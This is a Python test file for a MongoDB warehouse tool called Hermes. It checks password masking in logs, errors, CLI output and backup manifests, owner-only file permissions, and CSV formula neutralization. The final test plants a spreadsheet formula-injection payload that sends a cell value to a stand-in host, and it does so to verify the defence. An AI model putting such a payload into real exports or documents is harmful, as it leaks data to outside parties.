"""Security: a password never shows (logs, errors, status, manifests, progress), authenticated
warehouses work through the library and the CLI, and what Hermes writes is private to its owner.

The server here requires SCRAM-SHA-256 authentication: its user was created before it was
restarted with ``--auth``, as DESIGN.md describes.
"""

from __future__ import annotations

import logging
import os
import pty
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import orjson
import pytest
from click.testing import CliRunner
from pymongo import MongoClient

from hermes.cli import cli
from hermes.errors import WarehouseUnavailableError
from hermes.sample import iter_collection
from hermes.storage.database import MongoDBManager
from hermes.storage.embedded import EmbeddedWarehouse, ServerInfo
from hermes.storage.warehouse import (
    DataWarehouseExporter,
    DataWarehouseImporter,
    DataWarehouseManager,
)
from tests.reliability.faults import QUICK_RETRY, discard, fail_point

USER = "owner"
PASSWORD = "s3cr3t@pa:ss/word"  # characters a URI must escape, to mask both spellings
SECRETS = (PASSWORD, quote(PASSWORD, safe=""))


def with_password(info: ServerInfo, password: str = PASSWORD) -> str:
    return info.uri.replace("mongodb://", f"mongodb://{USER}:{quote(password, safe='')}@")


@pytest.fixture(scope="module")
def auth_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerInfo]:
    """A server that requires authentication (and accepts fail points from its root user)."""
    home = tmp_path_factory.mktemp("auth") / "home"
    open_server = EmbeddedWarehouse(home)
    client = MongoClient(open_server.ensure_running().uri)
    client.admin.command(
        "createUser",
        USER,
        pwd=PASSWORD,
        roles=["root"],
        mechanisms=["SCRAM-SHA-256"],
    )
    client.close()
    open_server.stop()  # a clean stop: the embedded server loses a new user to a kill
    secured = EmbeddedWarehouse(home, extra_args=["--auth", "--enable-test-commands"])
    yield secured.ensure_running()
    discard(secured)


@pytest.fixture
def uri(auth_server: ServerInfo) -> str:
    return with_password(auth_server)


@pytest.fixture
def hermes(uri: str, database_name: str) -> Iterator[MongoDBManager]:
    manager = MongoDBManager(uri=uri, database=database_name, timeout_ms=1000, retry=QUICK_RETRY)
    manager.get_collection("raw_documents").insert_many(list(iter_collection("raw_documents", 30)))
    yield manager
    manager.close()
    with MongoClient(uri) as client:  # a client untouched by the test's dropped connections
        client.drop_database(database_name)


def run(*args: str) -> object:
    return CliRunner().invoke(cli, [str(a) for a in args])


def assert_secret_free(*texts: str) -> None:
    for text in texts:
        for secret in SECRETS:
            assert secret not in text


# ------------------------------------------------------------------------------------------
# Authentication
# ------------------------------------------------------------------------------------------


def test_credentials_in_the_uri_open_the_warehouse(hermes, uri, database_name, tmp_path):
    assert hermes.list_collections() == ["raw_documents"]
    result = run("--uri", uri, "--database", database_name, "status", "--backups-root", tmp_path)
    assert result.exit_code == 0, result.output
    assert f"mongodb://{USER}:***@127.0.0.1" in result.output
    assert "raw_documents" in result.output and "30" in result.output
    assert_secret_free(result.output)


def test_a_wrong_password_exits_3_without_showing_either_password(auth_server, database_name):
    wrong = with_password(auth_server, "not-the-password")
    result = run("--uri", wrong, "--database", database_name, "status")
    assert result.exit_code == 3
    assert "Cannot reach the warehouse at mongodb://owner:***@" in result.stderr
    assert "authentication failed" in result.stderr
    assert "not-the-password" not in result.output
    with pytest.raises(WarehouseUnavailableError) as failure:
        MongoDBManager(uri=wrong, database=database_name).list_collections()
    assert "not-the-password" not in str(failure.value)


def test_debug_tracebacks_hold_no_password(auth_server, hermes, database_name, tmp_path):
    wrong = with_password(auth_server, "debug-wrong-pw")
    refused = run("--debug", "--uri", wrong, "--database", database_name, "status")
    assert refused.exit_code == 3 and "Traceback" in refused.stderr
    assert "debug-wrong-pw" not in refused.output
    not_a_backup = run(
        "--debug",
        "--uri",
        with_password(auth_server),
        "--database",
        database_name,
        "restore",
        "--backup-dir",
        tmp_path,
        "--confirm",
    )
    assert not_a_backup.exit_code == 2 and "Traceback" in not_a_backup.stderr
    assert_secret_free(not_a_backup.output)


def test_without_credentials_the_warehouse_refuses_and_the_cli_exits_3(auth_server, database_name):
    result = run("--uri", auth_server.uri, "--database", database_name, "status")
    assert result.exit_code == 3
    assert "requires authentication" in result.stderr


# ------------------------------------------------------------------------------------------
# The password never shows
# ------------------------------------------------------------------------------------------


def test_logs_of_retries_hold_no_password(hermes, uri, tmp_path, caplog):
    admin = MongoClient(uri)
    try:
        with caplog.at_level(logging.DEBUG), fail_point(admin, ["find", "getMore"], times=2):
            DataWarehouseExporter(hermes).export_collection(
                "raw_documents", tmp_path / "raw.jsonl", batch_size=5
            )
    finally:
        admin.close()
    assert any("retrying" in record.getMessage() for record in caplog.records)
    assert_secret_free(caplog.text, *(str(record.args) for record in caplog.records))


def test_errors_hold_no_password(hermes, uri, tmp_path):
    admin = MongoClient(uri)
    try:
        with (
            fail_point(admin, ["insert"], times=100),
            pytest.raises(WarehouseUnavailableError) as e,
        ):
            source = tmp_path / "raw.jsonl"
            DataWarehouseExporter(hermes).export_collection("raw_documents", source)
            DataWarehouseImporter(hermes).import_collection("copy", source)
    finally:
        admin.close()
    assert_secret_free(str(e.value), repr(e.value), repr(hermes), hermes.location)


def test_the_cli_masks_the_password_in_backup_manifests_and_summaries(
    hermes, uri, database_name, tmp_path
):
    result = run(
        "--uri", uri, "--database", database_name, "backup", "--backup-dir", tmp_path / "b"
    )
    assert result.exit_code == 0, result.output
    manifest = (tmp_path / "b" / "manifest.json").read_text()
    assert orjson.loads(manifest)["source"].startswith(f"mongodb://{USER}:***@")
    assert_secret_free(manifest, result.output)


def test_progress_on_a_terminal_holds_no_password(hermes, uri, database_name, tmp_path):
    main, child = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "hermes", "--uri", uri, "--database", database_name, "export"],
        cwd=tmp_path,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=child,
    )
    os.close(child)
    terminal = b""
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:
            break
        if not chunk:
            break
        terminal += chunk
    stdout, _ = process.communicate(timeout=60)
    os.close(main)
    assert process.returncode == 0
    assert "30/30 docs" in terminal.decode()
    assert_secret_free(terminal.decode(), stdout.decode())


def test_a_password_in_the_environment_is_masked_in_errors(auth_server, monkeypatch):
    monkeypatch.setenv("MONGODB_URI", with_password(auth_server, "env-secret-pw"))
    result = run("status")
    assert result.exit_code == 3
    assert "env-secret-pw" not in result.output
    assert "mongodb://owner:***@" in result.output


# ------------------------------------------------------------------------------------------
# What Hermes writes is private
# ------------------------------------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_exports_backups_rejects_and_migrations_are_readable_by_the_owner_only(
    hermes, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    exporter, manager = DataWarehouseExporter(hermes), DataWarehouseManager(hermes)
    exporter.export_all_collections(tmp_path / "new" / "exports", "jsonl")
    backup = manager.backup(tmp_path / "backup", "parquet").path
    manager.migrate(backup, tmp_path / "migrated-backup", None, "csv")
    manager.migrate(tmp_path / "new" / "exports", tmp_path / "migrated", None, "json")
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"_id": 1}\nnot json\n')
    DataWarehouseImporter(hermes).import_collection("bad", bad)

    folders = [tmp_path / "new" / "exports", backup, tmp_path / "migrated-backup"]
    folders.append(tmp_path / "migrated")
    files = [f for folder in folders for f in folder.iterdir()]
    files.append(tmp_path / "bad.jsonl.rejects.jsonl")
    assert {str(f): mode(f) for f in files} == {str(f): 0o600 for f in files}
    assert {str(f): mode(f) for f in folders} == {str(f): 0o700 for f in folders}
    assert (backup / "manifest.json") in files and (
        tmp_path / "migrated-backup" / "manifest.json"
    ) in files


def test_an_export_to_csv_can_neutralize_spreadsheet_formulas(hermes, tmp_path):
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1, "click")'
    hermes.get_collection("evil").insert_one({"_id": 1, "name": formula, "note": "+1"})
    exporter = DataWarehouseExporter(hermes)
    exporter.export_collection("evil", tmp_path / "plain.csv", None)
    exporter.export_collection("evil", tmp_path / "safe.csv", None, neutralize_formulas=True)
    [_, plain] = (tmp_path / "plain.csv").read_text().splitlines()
    [_, safe] = (tmp_path / "safe.csv").read_text().splitlines()
    assert plain.split(",", 1)[1].startswith('"=HYPERLINK')
    assert safe.split(",", 1)[1].startswith("\"'=HYPERLINK") and safe.endswith(",'+1")
